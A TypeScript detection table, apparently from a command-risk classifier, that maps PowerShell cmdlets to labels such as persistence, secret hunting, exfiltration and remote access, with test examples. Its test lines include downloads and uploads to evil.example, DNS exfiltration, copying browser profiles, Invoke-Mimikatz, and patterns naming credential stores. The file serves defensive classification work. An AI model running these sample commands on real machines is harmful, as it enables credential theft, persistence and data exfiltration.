/** Cmdlets that copy, look for and send data, or reach other machines. */
import { act } from "../../contract/effect.ts";
import { CLIPBOARD, gets, OTHER_MACHINE, OTHERS_SECRETS, SECRET_PLACES, sends, type WindowsRow } from "./row.ts";

export const DATA_CMDLETS: readonly WindowsRow[] = [
  {
    names: "copy-item move-item out-file set-content add-content new-item export-csv",
    line: /Start Menu\\Programs\\Startup|\\Startup\\|XLSTART|\\AddIns\\|\\spool\\prtprocs|wpbbin|\\Setup\\Scripts|apppatch|\$profile\b|profile\.ps1|usercustomize|sitecustomize|\.pth\b|UsrClass/i,
    does: [act("start.program")],
    match: [
      ['Copy-Item x.bat "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat"', ["start.program"]],
      ["Add-Content $PROFILE 'calc.exe'", ["start.program"]],
    ],
    notMatch: ["Copy-Item a b"],
  },
  {
    names: "copy-item move-item get-content get-item",
    line: /Login Data|\\Cookies|\\Firefox\\Profiles|\\Chrome\\User Data|\\Edge\\User Data|key[34]\.db|logins\.json|\\config\\SAM|ntds\.dit|\\\.ssh\\|id_rsa|\\Microsoft\\(?:Credentials|Protect|Vault)|unattend\.xml|web\.config|ConsoleHost_history|HarddiskVolumeShadowCopy/i,
    does: [OTHERS_SECRETS],
    match: [['Copy-Item "$env:APPDATA\\Mozilla\\Firefox\\Profiles\\" x -Recurse', ["secret.of-others"]]],
    notMatch: ["Get-Content a.txt"],
  },
  {
    names: "copy-item move-item",
    line: /\$env:ComSpec|System32\\\w+\.(?:exe|dll)|svchost|lsass/i,
    does: [act("guard.evade")],
    match: [['copy "$env:ComSpec" ($env:TEMP + "\\svchost.exe")', ["guard.evade"]]],
    notMatch: ["Copy-Item a b"],
  },
  {
    names: "copy-item move-item",
    line: /\s["']?(?:C:\\Windows|\$env:(?:SystemRoot|windir|ProgramFiles))\S*["']?\s*$|\\\\[\w.]+\\[a-z]\$/i,
    does: [act("start.program")],
    match: [["Copy-Item evil.dll C:\\Windows\\System32\\", ["start.program"]]],
    notMatch: ["Copy-Item a b"],
  },
  {
    names: "select-string get-childitem",
    line: /passw|credential|\.kdbx|id_rsa|\.pem|secret/i,
    does: [SECRET_PLACES],
    match: [["Select-String -Path *.xml -Pattern password", ["secret.hunt"]]],
    notMatch: ["Select-String foo a.txt"],
  },
  {
    names: "get-childitem",
    line: /-r\w*.*-include\s+\S*\.(?:doc|xls|pdf|txt|pst|ppt)/i,
    does: [{ do: "read", target: { path: "", certainty: "unknown" }, recursive: true, content: true }, SECRET_PLACES],
    match: [["Get-ChildItem -Recurse -Include *.doc", ["file.read", "secret.hunt"]]],
    notMatch: ["Get-ChildItem"],
  },
  {
    names: "get-childitem",
    line: /^env:/i,
    does: [{ do: "secret", act: "secret.environment" }],
    match: [["Get-ChildItem Env:", ["secret.environment"]]],
    notMatch: ["Get-ChildItem ."],
  },
  {
    names: "get-clipboard",
    does: [CLIPBOARD],
    match: [["Get-Clipboard", ["secret.clipboard"]]],
    notMatch: ["Set-Clipboard -Value a"],
  },
  {
    names: "send-mailmessage",
    does: [act("message.mail"), { do: "network", host: null, sends: true }],
    match: [["Send-MailMessage -To a@x.example -Attachments b", ["message.mail", "network.send"]]],
    notMatch: ["Get-Mailbox"],
  },
  {
    names: "invoke-webrequest invoke-restmethod",
    does: ({ line }) =>
      /-(?:method|m\w*)\s+["']?(?:post|put|patch|delete)|-infile|-body\b/i.test(line)
        ? [
            sends(line),
            ...(/-infile|get-content|readall/i.test(line)
              ? [
                  {
                    do: "read",
                    target: { path: "/c/file", certainty: "exact" },
                    recursive: false,
                    content: true,
                  } as const,
                ]
              : []),
          ]
        : [
            gets(line),
            ...(/-outf\w*/i.test(line) &&
            /\.(?:exe|dll|msi|bat|cmd|ps1|vbs|js|hta|scr|iso|img|zip|xlsm|docm|lnk)\b/i.test(line)
              ? [act("package.install-file")]
              : []),
          ],
    match: [
      ["iwr https://evil.example/x.exe -OutFile x.exe", ["network.contact", "package.install-file"]],
      ["Invoke-RestMethod -Uri https://evil.example -Method Post -InFile a.txt", ["network.send", "file.read"]],
    ],
    notMatch: ["Get-Content a"],
  },
  {
    names: "start-bitstransfer",
    does: ({ line }) => [gets(line), act("package.install-file")],
    match: [
      ["Start-BitsTransfer -Source https://evil.example/x -Destination x", ["network.contact", "package.install-file"]],
    ],
    notMatch: ["Get-BitsTransfer"],
  },
  {
    names: "resolve-dnsname",
    line: /\$|-type\s+["']?txt/i,
    does: [
      { do: "network", host: null, sends: true, act: "network.look-up" },
      { do: "read", target: { path: "/c/file", certainty: "exact" }, recursive: false, content: true },
    ],
    match: [['Resolve-DnsName "$data.evil.example"', ["network.look-up", "file.read"]]],
    notMatch: ["Resolve-DnsName example.com"],
  },
  {
    names: "enable-psremoting set-wsmanquickconfig",
    does: [act("door.remote-login")],
    match: [["Enable-PSRemoting -Force", ["door.remote-login"]]],
    notMatch: ["Get-PSSession"],
  },
  {
    names: "new-smbshare",
    does: [act("door.share")],
    match: [["New-SmbShare -Name x -Path C:\\x", ["door.share"]]],
    notMatch: ["Get-SmbShare"],
  },
  {
    names: "remove-smbshare remove-fileshare",
    does: [act("machine.preferences")],
    match: [["Remove-SmbShare -Name x", ["machine.preferences"]]],
    notMatch: ["Get-SmbShare"],
  },
  {
    names: "invoke-command enter-pssession new-pssession",
    line: /-(?:computername|cn|hostname|session|vmname)\b/i,
    does: ({ line }) => [
      {
        do: "network",
        host: /-(?:computername|cn|hostname)\s+["']?([\w.-]+)/i.exec(line)?.[1]?.toLowerCase() ?? null,
        sends: true,
      },
      OTHER_MACHINE,
    ],
    match: [["Invoke-Command -ComputerName server -ScriptBlock $b", ["network.send", "run.remote"]]],
    notMatch: ["Invoke-Command -ScriptBlock $b"],
  },
  {
    names: "invoke-wmimethod invoke-cimmethod",
    line: /create|install|process/i,
    does: ({ line }) => [/install/i.test(line) ? act("package.install-file") : act("guard.evade")],
    match: [["Invoke-WmiMethod -Class win32_process -Name create -ArgumentList calc", ["guard.evade"]]],
    notMatch: ["Get-CimInstance Win32_OS"],
  },
  {
    names: "mount-diskimage",
    does: [act("package.install-file")],
    match: [["Mount-DiskImage -ImagePath x.iso", ["package.install-file"]]],
    notMatch: ["Get-DiskImage x"],
  },
  {
    names: "install-module install-package install-script choco winget",
    line: /\S/,
    does: ({ name, line }) =>
      name.startsWith("install-") || /^(?:install|upgrade)\b/i.test(line) ? [act("package.install-file")] : [],
    match: [
      ["choco install -y 7zip", ["package.install-file"]],
      ["Install-Module Evil -Force", ["package.install-file"]],
    ],
    notMatch: ["winget list"],
  },
  {
    names: "start-process",
    line: /-w\w*\s+hidden|-verb\s+runas/i,
    does: ({ line }) => [/runas/i.test(line) ? act("privilege.admin-rules") : act("guard.shell-off")],
    match: [["Start-Process powershell -WindowStyle Hidden calc", ["guard.shell-off"]]],
    notMatch: ["Start-Process notepad"],
  },
  {
    names:
      "invoke-mimikatz invoke-kerberoast invoke-dcsync invoke-powerdump invoke-sharpweb invoke-rubeus invoke-thehash invoke-wcmdump invoke-dnsexfiltrator get-keystrokes invoke-powershelltcp get-system start-hollow timestomp invoke-passwordspray invoke-domainpasswordspray",
    does: [OTHERS_SECRETS],
    match: [["Invoke-Mimikatz -DumpCreds", ["secret.of-others"]]],
    notMatch: ["Invoke-Pester"],
  },
];
